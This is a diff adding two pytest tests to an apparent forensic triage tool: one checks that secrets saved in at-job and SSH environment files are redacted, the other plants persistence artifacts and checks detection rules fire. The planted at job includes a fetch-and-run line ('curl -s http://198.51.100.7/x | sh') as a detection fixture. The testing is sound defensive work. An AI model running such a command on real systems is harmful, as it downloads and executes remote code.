@@ -11,6 +11,7 @@ its transient unit files are written here in the form systemd's unit_write_setti
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import shutil
@@ -485,3 +486,51 @@ def test_hashing_and_held_records_are_bounded(tmp_path):
     skipped = [r for r in transient if r["exec_targets"][0].get("hash_skipped") == "artifact hashing budget spent"]
     assert len(hashed) <= 3 and len(hashed) + len(skipped) == len(transient)
     assert len(transient) == 5  # the packages' units are dropped first, not the transient ones
+
+
+def test_secrets_in_saved_environments_stay_behind_the_redaction_gate(tmp_path):
+    """An at job saves its user's whole environment and ~/.ssh/environment is one: both are mappings named
+    environment, which the gate masks by name as it does a process's."""
+    from agent.engine.plan import load_secrets
+    from agent.engine.redact import Redactor
+
+    root = _base(tmp_path)
+    _w(root, "/var/spool/cron/atjobs/a0000101c8e1b1", DEBIAN_AT_JOB.replace(
+        "LANG=C.UTF-8; export LANG", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIxK7MDENGxbPxRfiCYzz9; export "
+        "AWS_SECRET_ACCESS_KEY") % "/usr/sbin/shutdown -r now", 0o700)
+    _w(root, "/home/ubuntu/.ssh/environment", "DB_PASSWORD=hunter2xyz\nTZ=UTC\n")
+    streams, _ = _collect(root, persistence.collect)
+    assert streams["at_jobs"][0]["environment"]["AWS_SECRET_ACCESS_KEY"].startswith("wJalr")
+    redactor = Redactor(load_secrets())
+    shipped = json.dumps([redactor.record(r, name) for name in ("at_jobs", "ssh_rc") for r in streams[name]])
+    assert "wJalrXUtnFEMIxK7MDENGxbPxRfiCYzz9" not in shipped and "hunter2xyz" not in shipped
+    assert '"TZ": "UTC"' in shipped and "DB_PASSWORD" in shipped
+
+
+def test_whole_run_writes_the_declared_streams(tmp_path):
+    """collect --artifacts config,persistence over a planted root: the streams config.toml declares are in the
+    bundle, and the rules read them from there."""
+    import tarfile
+    import tomllib
+
+    from conftest import run_triagent, summary_of
+
+    root = _base(tmp_path / "root")
+    _w(root, "/etc/hostname", "web1\n")
+    for rule_id in ("TRI-PERSIST-101", "TRI-PERSIST-110", "TRI-PERSIST-121"):
+        for path, body in CASES[rule_id][0].items():
+            _w(root, path, body)
+    _w(root, "/var/spool/cron/atjobs/a0000101c8e1b1", DEBIAN_AT_JOB % "curl -s http://198.51.100.7/x | sh", 0o700)
+    summary = summary_of(run_triagent(["collect", "--root", str(root), "--artifacts", "config,persistence",
+                                       "--output", str(tmp_path / "out")]))
+    with open(__import__("specs").path("artifacts", "config.toml"), "rb") as fh:
+        declared = {s["name"] for a in tomllib.load(fh)["artifact"] for s in a.get("streams", [])}
+    streams: dict[str, list[dict]] = {}
+    with tarfile.open(summary["bundle"]) as tar:
+        for member in tar.getmembers():
+            m = re.search(r"artifacts/([a-z_]+)\.jsonl$", member.name)
+            if m and m.group(1) in declared:
+                streams[m.group(1)] = [json.loads(x) for x in tar.extractfile(member).read().splitlines()]
+    assert {"udev_rules", "at_jobs", "ssh_rc", "services", "shell_rc", "sshd_settings"} <= set(streams)
+    assert {"TRI-PERSIST-101", "TRI-PERSIST-110", "TRI-PERSIST-120", "TRI-PERSIST-121",
+            "TRI-PERSIST-130"} <= set(_findings(streams))
